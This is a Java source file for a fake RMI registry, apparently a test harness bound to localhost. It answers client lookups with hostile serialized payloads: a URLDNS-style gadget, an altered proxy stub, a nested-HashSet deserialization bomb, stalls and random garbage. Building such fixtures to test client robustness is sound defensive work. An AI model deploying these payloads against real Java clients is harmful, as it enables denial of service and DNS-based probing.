import java.io.BufferedReader;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URL;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.RemoteObject;
import java.rmi.server.RemoteObjectInvocationHandler;
import java.rmi.server.RemoteRef;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.Callable;
import javax.management.remote.rmi.RMIServer;

/**
 * A registry that answers any lookup with something that hurts who reads it: one kind of it for each line on
 * standard input, each on a port of its own, which is the answer.
 */
public final class EvilRegistry {
    private static final int DEEP = 100;

    /** RMI's dialect of serialization. */
    private static final class Marshal extends ObjectOutputStream {
        Marshal(OutputStream out) throws IOException {
            super(out);
            useProtocolVersion(PROTOCOL_VERSION_2);
        }

        @Override
        protected void annotateClass(Class<?> type) throws IOException {
            writeObject(null);
        }

        @Override
        protected void annotateProxyClass(Class<?> type) throws IOException {
            writeObject(null);
        }
    }

    private static Object thing(String kind) throws IOException {
        if (kind.equals("gadget")) {
            // Reading it asks the DNS for the host.
            return new HashMap<>(Map.of(new URL("http://127.0.0.1/gadget"), 1));
        }
        if (kind.equals("proxy")) {
            // A stub as JDK 8 sends it, but of one interface more.
            RemoteRef reference = ((RemoteObject) LocateRegistry.getRegistry("127.0.0.1", 1)).getRef();
            Class<?>[] interfaces = {RMIServer.class, Callable.class};
            return Proxy.newProxyInstance(
                    EvilRegistry.class.getClassLoader(), interfaces, new RemoteObjectInvocationHandler(reference));
        }
        Set<Object> outermost = new HashSet<>();
        Set<Object> first = outermost;
        Set<Object> second = new HashSet<>();
        for (int i = 0; i < DEEP; i++) {
            Set<Object> left = new HashSet<>();
            Set<Object> right = new HashSet<>();
            left.add("x");
            first.add(left);
            first.add(right);
            second.add(left);
            second.add(right);
            first = left;
            second = right;
        }
        return outermost;
    }

    private static void answer(Socket socket, String kind) throws Exception {
        DataInputStream in = new DataInputStream(socket.getInputStream());
        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
        in.readFully(new byte[7]);
        if (kind.equals("silence")) {
            Thread.sleep(60_000);
        }
        out.writeByte(0x4e);
        out.writeUTF("127.0.0.1");
        out.writeInt(socket.getPort());
        out.flush();
        in.readUTF();
        in.readInt();
        in.readByte();
        out.writeByte(0x51);
        if (kind.equals("garbage")) {
            byte[] bytes = new byte[1 << 20];
            new Random(1).nextBytes(bytes);
            out.write(bytes);
            out.flush();
            return;
        }
        Marshal marshal = new Marshal(out);
        marshal.writeByte(1);
        marshal.write(new byte[14]);
        marshal.writeObject(thing(kind));
        marshal.flush();
        Thread.sleep(1000);
    }

    private static void serve(ServerSocket listener, String kind) {
        while (true) {
            try {
                Socket socket = listener.accept();
                Thread thread = new Thread(() -> {
                    try (socket) {
                        answer(socket, kind);
                    } catch (Exception e) {
                        // the other side had enough
                    }
                });
                thread.setDaemon(true);
                thread.start();
            } catch (IOException e) {
                return;
            }
        }
    }

    public static void main(String[] args) throws Exception {
        BufferedReader lines = new BufferedReader(new InputStreamReader(System.in));
        for (String line = lines.readLine(); line != null; line = lines.readLine()) {
            String kind = line;
            ServerSocket listener = new ServerSocket(0, 50, InetAddress.getByName("127.0.0.1"));
            Thread thread = new Thread(() -> serve(listener, kind));
            thread.setDaemon(true);
            thread.start();
            System.out.println(listener.getLocalPort());
        }
    }
}
